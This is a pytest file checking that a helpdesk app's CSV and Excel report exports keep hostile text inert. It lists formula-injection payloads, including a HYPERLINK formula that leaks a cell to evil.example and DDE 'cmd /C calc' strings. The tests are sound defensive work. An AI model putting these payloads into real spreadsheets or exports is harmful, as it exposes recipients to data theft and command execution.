"""Report exports keep hostile text inert: no formula in the CSV or the workbook."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from helpdesk.reports import export
from helpdesk.reports.services import Report, ReportRequest, Row, Table

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table(*cells: object) -> Table:
    """A breaches table of one row of these cells."""
    columns = [f"column{i}" for i in range(len(cells))]
    table = Table("breaches", "Breaches", columns, [c.title() for c in columns])
    table.rows.append(Row(list(cells), link="/tickets/1"))
    return table


def _csv_rows(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export.table_csv(table).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_text_that_starts_like_a_formula_gets_a_quote(value):
    # Other text and numbers (a negative one too: the report's own arithmetic) stay as they are.
    rows = _csv_rows(_table(value, "件名 = 質問", "a-b", -1.5, 0, None))
    assert rows[1] == ["'" + value, "件名 = 質問", "a-b", "-1.5", "0", ""]


def _report(table: Table, desk_name: str = "System desk") -> Report:
    return Report(
        request=ReportRequest(date(2026, 1, 1), date(2026, 1, 31)),
        title="2026-01-01 – 2026-01-31",
        desk_names=[desk_name],
        generated_at=datetime(2026, 2, 1, tzinfo=UTC),
        tables={table.name: table},
        charts={},
    )


def test_xlsx_writes_text_as_text_never_as_a_formula():
    body = export.report_xlsx(_report(_table(*HOSTILE, "#N/A", -1.5), desk_name="=1+1"))
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert len(sheets) == 2
        for name in sheets:
            assert b"<f>" not in archive.read(name), name
    book = load_workbook(io.BytesIO(body))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    assert [c.value for c in book["breaches"][3]] == [*HOSTILE, "#N/A", -1.5]
    assert book["breaches"]["A3"].hyperlink.target == "/tickets/1"
    assert book["report"]["B2"].value == "=1+1"


def test_xlsx_drops_control_characters_a_workbook_cannot_hold():
    body = export.report_xlsx(_report(_table("HD-2026-000001", "log\x01in\x1b fails")))
    sheet = load_workbook(io.BytesIO(body))["breaches"]
    assert [c.value for c in sheet[3]] == ["HD-2026-000001", "login fails"]
